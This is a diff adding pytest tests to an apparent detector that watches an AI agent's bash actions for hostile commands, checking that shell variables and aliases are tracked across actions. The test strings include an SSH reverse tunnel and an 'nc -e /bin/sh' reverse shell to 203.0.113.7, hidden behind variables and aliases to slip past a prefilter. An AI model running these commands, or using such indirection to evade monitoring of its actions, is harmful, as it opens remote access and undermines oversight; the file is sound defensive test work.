@@ -718,3 +718,40 @@ def test_a_needle_inferred_with_quotes_is_looked_for_as_the_text_is_searched():
     event = from_dict({"kind": "action", "ts": 1, "tool": "bash",
                        "input": 'cat > c.json <<EOF\n{"pools": [{"url": "p:3333"}]}\nEOF'})
     assert [f.rule for f in eng.analyze(event)] == ["json_pools"]
+
+
+@pytest.mark.parametrize("steps", [
+    ["export T='ssh -fNR 4444:localhost:22 a@203.0.113.7'", "$T"],        # a variable kept by the shell
+    ["H=ssh", "ls -la", "$H -fNR 4444:localhost:22 a@203.0.113.7"],       # set by a text the prefilter passed over
+    ["alias up='ssh -fNR 4444:localhost:22 a@203.0.113.7'", "up"],        # an alias kept by the shell
+    ["C='nc -e /bin/sh'; cd /srv", "${C} 203.0.113.7 4444"],
+])
+def test_what_an_action_leaves_set_in_the_runs_shell_is_there_for_later_actions(steps):
+    eng = Engine(load())
+    found = [{f.rule for f in eng.analyze(from_dict({"kind": "action", "ts": i, "tool": "bash", "input": text,
+                                                     "sandbox": "shell-" + steps[0]}))} for i, text in enumerate(steps)]
+    assert found[-1] & {"ssh_reverse_tunnel", "reverse_shell_netcat_exec"}
+
+
+def test_a_reading_that_used_the_shells_variables_is_not_reused_elsewhere_nor_the_other_way():
+    eng = Engine(load())
+
+    def rules(text, sandbox):
+        return {f.rule for f in eng.analyze(from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": text,
+                                                       "sandbox": sandbox}))}
+    tunnel = "export T='ssh -fNR 4444:localhost:22 a@203.0.113.7'"
+    rules(tunnel, "a")
+    assert "ssh_reverse_tunnel" in rules("$T", "a")
+    assert rules("$T", "b") == set()                 # T is not set there
+    rules(tunnel, "c")                              # (this reading is replayed from a's)
+    assert "ssh_reverse_tunnel" in rules("$T", "c")  # b's reading, which found T unset, is not reused
+    rules("unset T", "c")
+    assert rules("$T", "c") == set()
+
+
+def test_a_written_script_sets_nothing_in_the_runs_shell():
+    eng = Engine(load())
+    eng.analyze(from_dict({"kind": "action", "ts": 1, "tool": "write_file", "sandbox": "w",
+                           "args": {"path": "/tmp/env.sh", "content": "T='ssh -fNR 4444:localhost:22 h'\n"}}))
+    session = next(iter(eng.sessions.values()))
+    assert session.variables == {}
